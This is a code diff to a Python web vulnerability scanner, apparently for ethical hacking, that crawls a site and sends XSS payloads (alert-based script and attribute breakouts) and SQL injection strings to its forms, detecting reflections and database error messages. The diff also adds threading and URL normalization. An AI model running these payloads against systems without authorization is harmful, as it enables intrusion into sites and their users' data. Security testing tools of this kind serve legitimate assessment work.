@@ -3,12 +3,18 @@
 # Compatible with both MacOS and Kali Linux
 
 import argparse
+import functools
+import io
+import random
 import re
 import requests
 import sys
+import threading
 import time
 from bs4 import BeautifulSoup
-from urllib.parse import urljoin, urlparse
+from concurrent.futures import ThreadPoolExecutor
+from requests.adapters import HTTPAdapter
+from urllib.parse import parse_qsl, urlencode, urljoin, urlparse, urlsplit, urlunsplit
 
 # Define colors for terminal output
 class Colors:
@@ -20,9 +26,79 @@ class Colors:
     ENDC = '\033[0m'
     BOLD = '\033[1m'
 
+class ThreadOutput:
+    """Stand-in for sys.stdout that can buffer each worker thread's output separately"""
+    
+    def __init__(self, stream):
+        self.stream = stream
+        self.local = threading.local()
+    
+    def write(self, text):
+        buffer = getattr(self.local, 'buffer', None)
+        return (buffer if buffer is not None else self.stream).write(text)
+    
+    def flush(self):
+        self.stream.flush()
+    
+    def capture(self, func, *args):
+        """Run func with this thread's output buffered and return (result, output)"""
+        previous = getattr(self.local, 'buffer', None)
+        self.local.buffer = io.StringIO()
+        try:
+            result = func(*args)
+            return result, self.local.buffer.getvalue()
+        finally:
+            self.local.buffer = previous
+
 # Disable SSL warnings
 requests.packages.urllib3.disable_warnings(requests.packages.urllib3.exceptions.InsecureRequestWarning)
 
+# SQL error messages to look for, grouped by database
+SQL_ERROR_PATTERNS = {
+    'MySQL': ["SQL syntax", "mysql_fetch_array", "mysql_fetch_assoc", "mysql_num_rows", "mysql_fetch_row", "MySQL server"],
+    'Oracle': ["ORA-", "Oracle error"],
+    'MSSQL': ["Microsoft SQL Server", "ODBC Driver"],
+    'SQLite': ["SQLite3::"],
+    'Generic': ["syntax error"]
+}
+
+# Compile every pattern once into a single regex so each response is searched in one pass
+SQL_ERROR_REGEX = re.compile('|'.join(
+    f"(?P<{dbms}>{'|'.join(re.escape(pattern) for pattern in patterns)})"
+    for dbms, patterns in SQL_ERROR_PATTERNS.items()
+))
+
+# Query parameters that only track where a visitor came from
+TRACKING_PARAMS = {'gclid', 'dclid', 'fbclid', 'msclkid', 'yclid', 'igshid', 'mc_cid', 'mc_eid', '_ga', '_gl'}
+
+# Characters that never need percent-encoding (RFC 3986 section 2.3)
+UNRESERVED_CHARS = frozenset('ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-._~')
+
+# Characters sent after each XSS canary to see which ones come back as-is
+XSS_PROBE = '"\'<>'
+
+# Payloads mapped to the reflection contexts they break out of and the characters they need
+# unencoded there. Attribute and URL contexts carry their quote character (e.g. 'attribute"');
+# a bare 'attribute' or 'url' means the value is unquoted. Raw text elements are named by their
+# tag and HTML comments are 'comment'.
+XSS_PAYLOADS = {
+    '<script>alert("XSS")</script>': ({'html'}, '<>'),
+    '<img src="x" onerror="alert(\'XSS\')">': ({'html'}, '<>"'),
+    '"><script>alert("XSS")</script>': ({'attribute', 'attribute"', 'url', 'url"'}, '"<>'),
+    '\'><script>alert("XSS")</script>': ({'attribute', "attribute'", 'url', "url'"}, "'<>"),
+    '<body onload="alert(\'XSS\')">': ({'html'}, '<>"'),
+    '<svg/onload=alert("XSS")>': ({'html'}, '<>'),
+    'javascript:alert("XSS")': ({'url', 'url"', "url'"}, ''),
+    '</script><script>alert("XSS")</script>': ({'script'}, '<>'),
+    '</textarea><script>alert("XSS")</script>': ({'textarea'}, '<>'),
+    '</title><script>alert("XSS")</script>': ({'title'}, '<>'),
+    '</style><script>alert("XSS")</script>': ({'style'}, '<>'),
+    '--><script>alert("XSS")</script>': ({'comment'}, '<>')
+}
+
+# Opening and closing tags of elements whose content is raw text, where markup only counts after the closing tag
+RAW_TEXT_TAG_REGEX = re.compile(r'<(/?)(textarea|title|style|xmp|noembed|noframes|noscript|iframe)[\s/>]')
+
 def get_arguments():
     """Parse command line arguments"""
     parser = argparse.ArgumentParser(description='Simple Web Vulnerability Scanner for Ethical Hacking')
@@ -30,6 +106,9 @@ def get_arguments():
     parser.add_argument('-c', '--cookie', dest='cookie', help='Cookies to include with requests')
     parser.add_argument('--depth', dest='depth', type=int, default=1, help='Crawling depth (default: 1)')
     parser.add_argument('--timeout', dest='timeout', type=float, default=10.0, help='Request timeout in seconds (default: 10.0)')
+    parser.add_argument('-w', '--workers', dest='workers', type=int, default=5, help='URLs and forms scanned in parallel (default: 5)')
+    parser.add_argument('--pool-size', dest='pool_size', type=int, default=10, help='Keep-alive connections per host (default: 10)')
+    parser.add_argument('--max-body-size', dest='max_body_size', type=int, default=1024, help='Maximum response body to read in KB (default: 1024)')
     parser.add_argument('-v', '--verbose', action='store_true', help='Enable verbose output')
     return parser.parse_args()
 
@@ -41,9 +120,82 @@ def is_valid_url(url):
     except ValueError:
         return False
 
-def get_session(cookie=None):
+def remove_dot_segments(path):
+    """Resolve . and .. segments in a URL path (RFC 3986 section 5.2.4)"""
+    output = []
+    for segment in path.split('/'):
+        if segment == '..':
+            if len(output) > 1:
+                output.pop()
+        elif segment != '.':
+            output.append(segment)
+    if path.endswith(('/.', '/..')):
+        output.append('')
+    return '/'.join(output)
+
+def normalize_percent_encoding(component):
+    """Uppercase percent-escapes and decode the ones that encode unreserved characters"""
+    def fix(match):
+        char = chr(int(match.group(1), 16))
+        return char if char in UNRESERVED_CHARS else match.group(0).upper()
+    return re.sub(r'%([0-9a-fA-F]{2})', fix, component)
+
+@functools.lru_cache(maxsize=65536)
+def canonicalize_url(url, base=None):
+    """Resolve a URL against base and normalize it; returns None for non-http(s) URLs"""
+    if base:
+        url = urljoin(base, url.strip())
+    parsed = urlsplit(url.strip())
+    scheme = parsed.scheme.lower()
+    if scheme not in ('http', 'https') or not parsed.hostname:
+        return None
+    
+    host = parsed.hostname.lower()
+    if ':' in host:
+        host = f"[{host}]"
+    try:
+        port = parsed.port
+    except ValueError:
+        return None
+    if port and port != {'http': 80, 'https': 443}[scheme]:
+        host = f"{host}:{port}"
+    
+    # Sorted query without tracking parameters and no fragment, so cosmetic variants compare equal
+    path = normalize_percent_encoding(remove_dot_segments(parsed.path)) or '/'
+    params = [(name, value) for name, value in parse_qsl(parsed.query, keep_blank_values=True)
+              if not name.lower().startswith('utm_') and name.lower() not in TRACKING_PARAMS]
+    return urlunsplit((scheme, host, path, urlencode(sorted(params)), ''))
+
+def limit_body(max_body_size):
+    """Build a response hook that keeps at most max_body_size bytes of text bodies"""
+    def hook(response, *args, **kwargs):
+        content_type = response.headers.get('Content-Type', 'text/html').lower()
+        body = bytearray()
+        # Binary downloads are never read; text is read only up to the limit
+        if 'text' in content_type or 'html' in content_type or 'xml' in content_type or 'json' in content_type:
+            for chunk in response.iter_content(16 * 1024):
+                body += chunk
+                if len(body) >= max_body_size:
+                    del body[max_body_size:]
+                    break
+        response.close()
+        response._content = bytes(body)
+        return response
+    return hook
+
+def get_session(cookie=None, pool_size=10, max_body_size=1024 * 1024):
     """Create and configure a requests session"""
     session = requests.Session()
+    
+    # Stream every response so the hook can stop reading at max_body_size
+    session.stream = True
+    session.hooks['response'].append(limit_body(max_body_size))
+    
+    # Keep enough pooled connections around so requests reuse them instead of reconnecting
+    adapter = HTTPAdapter(pool_connections=pool_size, pool_maxsize=pool_size)
+    session.mount('http://', adapter)
+    session.mount('https://', adapter)
+    
     session.headers.update({
         'User-Agent': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 Safari/537.36',
         'Accept': 'text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,*/*;q=0.8',
@@ -55,6 +207,19 @@ def get_session(cookie=None):
     
     return session
 
+def get_connection_stats(session):
+    """Count requests and new connections made through the session's pools"""
+    requests_made = 0
+    connections = 0
+    for adapter in set(session.adapters.values()):
+        pools = adapter.poolmanager.pools
+        for key in pools.keys():
+            pool = pools.get(key)
+            if pool is not None:
+                requests_made += pool.num_requests
+                connections += pool.num_connections
+    return requests_made, connections
+
 def get_links_from_url(session, url, timeout):
     """Extract all links from a URL"""
     links = []
@@ -63,10 +228,9 @@ def get_links_from_url(session, url, timeout):
         if response.status_code == 200:
             soup = BeautifulSoup(response.text, 'html.parser')
             for a_tag in soup.find_all('a', href=True):
-                href = a_tag['href']
-                full_url = urljoin(url, href)
+                full_url = canonicalize_url(a_tag['href'], response.url)
                 # Only include links to the same domain
-                if urlparse(url).netloc == urlparse(full_url).netloc:
+                if full_url and urlsplit(full_url).netloc == urlsplit(canonicalize_url(url)).netloc:
                     links.append(full_url)
         return links
     except requests.exceptions.RequestException as e:
@@ -82,7 +246,7 @@ def get_forms_from_url(session, url, timeout):
             soup = BeautifulSoup(response.text, 'html.parser')
             for form in soup.find_all('form'):
                 form_details = {}
-                form_details['action'] = urljoin(url, form.get('action', ''))
+                form_details['action'] = canonicalize_url(form.get('action', ''), response.url) or response.url
                 form_details['method'] = form.get('method', 'get').lower()
                 form_details['inputs'] = []
                 
@@ -104,21 +268,92 @@ def get_forms_from_url(session, url, timeout):
         print(f"{Colors.FAIL}[!] Error fetching URL {url}: {e}{Colors.ENDC}")
         return forms
 
+def get_reflection_context(html, pos):
+    """Work out whether a reflected value sits in HTML text, an attribute, a URL, a script, a comment or raw text"""
+    before = html[:pos].lower()
+    if before.rfind('<script') > before.rfind('</script'):
+        return 'script'
+    if before.rfind('<!--') > before.rfind('-->'):
+        return 'comment'
+    tags = RAW_TEXT_TAG_REGEX.findall(before)
+    if tags and not tags[-1][0] and before.find('>', before.rfind('<' + tags[-1][1])) != -1:
+        return tags[-1][1]
+    if before.rfind('<') > before.rfind('>'):
+        attribute = re.search(r'([\w-]+)\s*=\s*(["\']?)([^"\'\s>]*)$', before[before.rfind('<'):])
+        if not attribute:
+            return 'attribute'
+        name, quote, prefix = attribute.groups()
+        # A javascript: URL only runs if the value starts the attribute
+        if name in ('href', 'src', 'action') and not prefix:
+            return 'url' + quote
+        return 'attribute' + quote
+    return 'html'
+
+def get_unencoded_chars(html, pos):
+    """Return which XSS_PROBE characters following a canary at pos came back unencoded"""
+    raw = ''
+    window = html[pos:pos + 40]
+    i = 0
+    for char in XSS_PROBE:
+        if i >= len(window):
+            break
+        if window[i] == char:
+            raw += char
+            i += 1
+        elif window[i] == '&':
+            # HTML entity, e.g. &quot; or &#39;
+            i = window.find(';', i) + 1 or len(window)
+        elif window[i] == '\\':
+            i += 2
+    return raw
+
+def probe_xss(session, form, timeout):
+    """Send a unique canary in each field and return each reflection's context and unencoded characters"""
+    canaries = {}
+    data = {}
+    for input_data in form['inputs']:
+        if input_data['type'] not in ['submit', 'hidden', 'button']:
+            canary = 'xq' + '%08x' % random.getrandbits(32)
+            canaries[canary] = input_data['name']
+            data[input_data['name']] = canary + XSS_PROBE
+        else:
+            data[input_data['name']] = input_data['value']
+    
+    if form['method'] == 'post':
+        response = session.post(form['action'], data=data, timeout=timeout, verify=False)
+    else:
+        response = session.get(form['action'], params=data, timeout=timeout, verify=False)
+    
+    # One scan over the body finds every canary at once
+    reflections = set()
+    for match in re.finditer(r'xq[0-9a-f]{8}', response.text):
+        if match.group(0) in canaries:
+            reflections.add((get_reflection_context(response.text, match.start()),
+                             get_unencoded_chars(response.text, match.end())))
+    return reflections
+
 def test_xss(session, url, form, timeout, verbose):
     """Test for XSS vulnerabilities in a form"""
-    xss_payloads = [
-        '<script>alert("XSS")</script>',
-        '<img src="x" onerror="alert(\'XSS\')">',
-        '"><script>alert("XSS")</script>',
-        '\'><script>alert("XSS")</script>',
-        '<body onload="alert(\'XSS\')">',
-        '<svg/onload=alert("XSS")>'
-    ]
-    
     original_form = form.copy()
     is_vulnerable = False
     
-    for payload in xss_payloads:
+    # Find out where input is reflected before sending any real payloads
+    try:
+        reflections = probe_xss(session, form, timeout)
+    except requests.exceptions.RequestException as e:
+        if verbose:
+            print(f"{Colors.FAIL}[!] Error testing XSS: {e}{Colors.ENDC}")
+        return is_vulnerable
+    
+    if verbose:
+        contexts = sorted(f"{context} ({raw or 'none'})" for context, raw in reflections)
+        print(f"{Colors.BLUE}[*] Reflection contexts (unencoded characters): {', '.join(contexts) or 'none'}{Colors.ENDC}")
+    
+    for payload, (contexts, required) in XSS_PAYLOADS.items():
+        # Only try payloads that a reflection's context and surviving characters allow
+        if not any(context in contexts and all(char in raw for char in required) for context, raw in reflections):
+            continue
+        
         data = {}
         for input_data in form['inputs']:
             if input_data['type'] not in ['submit', 'hidden', 'button']:
@@ -162,21 +397,6 @@ def test_sqli(session, url, form, timeout, verbose):
         "')) OR (('1'='1"
     ]
     
-    error_patterns = [
-        "SQL syntax",
-        "mysql_fetch_array",
-        "mysql_fetch_assoc",
-        "mysql_num_rows",
-        "mysql_fetch_row",
-        "MySQL server",
-        "syntax error",
-        "ORA-",
-        "Oracle error",
-        "Microsoft SQL Server",
-        "ODBC Driver",
-        "SQLite3::"
-    ]
-    
     original_form = form.copy()
     is_vulnerable = False
     
@@ -198,16 +418,13 @@ def test_sqli(session, url, form, timeout, verbose):
                 response = session.get(form['action'], params=data, timeout=timeout, verify=False)
             
             # Check for SQL error messages in the response
-            for pattern in error_patterns:
-                if pattern in response.text:
-                    print(f"{Colors.GREEN}[+] SQL Injection vulnerability found in {form['action']}{Colors.ENDC}")
-                    print(f"{Colors.GREEN}[+] Form method: {form['method']}{Colors.ENDC}")
-                    print(f"{Colors.GREEN}[+] Payload: {payload}{Colors.ENDC}")
-                    print(f"{Colors.GREEN}[+] Error pattern: {pattern}{Colors.ENDC}")
-                    is_vulnerable = True
-                    break
-            
-            if is_vulnerable:
+            match = SQL_ERROR_REGEX.search(response.text)
+            if match:
+                print(f"{Colors.GREEN}[+] SQL Injection vulnerability found in {form['action']}{Colors.ENDC}")
+                print(f"{Colors.GREEN}[+] Form method: {form['method']}{Colors.ENDC}")
+                print(f"{Colors.GREEN}[+] Payload: {payload}{Colors.ENDC}")
+                print(f"{Colors.GREEN}[+] Error pattern: {match.group(0)} ({match.lastgroup}){Colors.ENDC}")
+                is_vulnerable = True
                 break
                 
         except requests.exceptions.RequestException as e:
@@ -224,6 +441,10 @@ def crawl(session, base_url, max_depth, timeout, verbose, visited=None, current_
     if current_depth > max_depth:
         return visited
     
+    base_url = canonicalize_url(base_url)
+    if base_url is None:
+        return visited
+    
     if base_url in visited:
         return visited
     
@@ -242,8 +463,28 @@ def crawl(session, base_url, max_depth, timeout, verbose, visited=None, current_
     
     return visited
 
-def scan_url(session, url, timeout, verbose):
-    """Scan a single URL for vulnerabilities"""
+def run_captured(func, *args):
+    """Run func and return (result, output), buffering its output when sys.stdout is a ThreadOutput"""
+    if isinstance(sys.stdout, ThreadOutput):
+        return sys.stdout.capture(func, *args)
+    return func(*args), ''
+
+def test_form(session, url, form, index, total, timeout, verbose):
+    """Test one form for XSS and SQL Injection"""
+    print(f"{Colors.BLUE}[*] Testing form {index}/{total} on {url}{Colors.ENDC}")
+    
+    # Test for XSS
+    xss_vulnerable = test_xss(session, url, form, timeout, verbose)
+    
+    # Test for SQL Injection
+    sqli_vulnerable = test_sqli(session, url, form, timeout, verbose)
+    
+    if not xss_vulnerable and not sqli_vulnerable and verbose:
+        print(f"{Colors.WARNING}[-] No vulnerabilities found in form {index}/{total}{Colors.ENDC}")
+    return xss_vulnerable or sqli_vulnerable
+
+def scan_url(session, url, timeout, verbose, form_executor=None):
+    """Scan a single URL for vulnerabilities, testing its forms in parallel when given an executor"""
     print(f"{Colors.BLUE}[*] Scanning URL: {url}{Colors.ENDC}")
     
     # Get forms from the URL
@@ -251,18 +492,14 @@ def scan_url(session, url, timeout, verbose):
     if verbose:
         print(f"{Colors.BLUE}[*] Found {len(forms)} forms on {url}{Colors.ENDC}")
     
-    # Test each form for vulnerabilities
-    for i, form in enumerate(forms):
-        print(f"{Colors.BLUE}[*] Testing form {i+1}/{len(forms)} on {url}{Colors.ENDC}")
-        
-        # Test for XSS
-        xss_vulnerable = test_xss(session, url, form, timeout, verbose)
-        
-        # Test for SQL Injection
-        sqli_vulnerable = test_sqli(session, url, form, timeout, verbose)
-        
-        if not xss_vulnerable and not sqli_vulnerable and verbose:
-            print(f"{Colors.WARNING}[-] No vulnerabilities found in form {i+1}/{len(forms)}{Colors.ENDC}")
+    # Test each form, printing each form's output as one block in form order
+    tasks = [(test_form, session, url, form, i + 1, len(forms), timeout, verbose) for i, form in enumerate(forms)]
+    if form_executor:
+        results = form_executor.map(lambda task: run_captured(*task), tasks)
+    else:
+        results = (run_captured(*task) for task in tasks)
+    for _, output in results:
+        print(output, end='')
 
 def main():
     """Main function"""
@@ -286,8 +523,8 @@ def main():
     print(f"{Colors.BLUE}[*] Start Time: {time.strftime('%Y-%m-%d %H:%M:%S')}{Colors.ENDC}")
     print(f"{Colors.HEADER}{'=' * 60}{Colors.ENDC}")
     
-    # Create a session
-    session = get_session(args.cookie)
+    # Create a session, with a connection for every worker
+    session = get_session(args.cookie, max(args.pool_size, args.workers * 2), args.max_body_size * 1024)
     
     # Crawl the website
     print(f"{Colors.BLUE}[*] Starting crawl...{Colors.ENDC}")
@@ -295,9 +532,23 @@ def main():
     print(f"{Colors.GREEN}[+] Crawling complete. Found {len(urls)} unique URLs.{Colors.ENDC}")
     
     # Scan each URL for vulnerabilities
-    print(f"{Colors.BLUE}[*] Starting vulnerability scan...{Colors.ENDC}")
-    for url in urls:
-        scan_url(session, url, args.timeout, args.verbose)
+    workers = max(args.workers, 1)
+    print(f"{Colors.BLUE}[*] Starting vulnerability scan with {workers} workers...{Colors.ENDC}")
+    output = sys.stdout = ThreadOutput(sys.stdout)
+    try:
+        # URLs and their forms are scanned in parallel; each URL's output is printed in crawl order
+        with ThreadPoolExecutor(max_workers=workers) as url_executor, \
+                ThreadPoolExecutor(max_workers=workers) as form_executor:
+            scans = url_executor.map(
+                lambda url: output.capture(scan_url, session, url, args.timeout, args.verbose, form_executor), urls)
+            for _, text in scans:
+                output.stream.write(text)
+    finally:
+        sys.stdout = output.stream
+    
+    if args.verbose:
+        requests_made, connections = get_connection_stats(session)
+        print(f"{Colors.BLUE}[*] {requests_made} requests over {connections} connections{Colors.ENDC}")
     
     print(f"{Colors.HEADER}{'=' * 60}{Colors.ENDC}")
     print(f"{Colors.BLUE}[*] End Time: {time.strftime('%Y-%m-%d %H:%M:%S')}{Colors.ENDC}")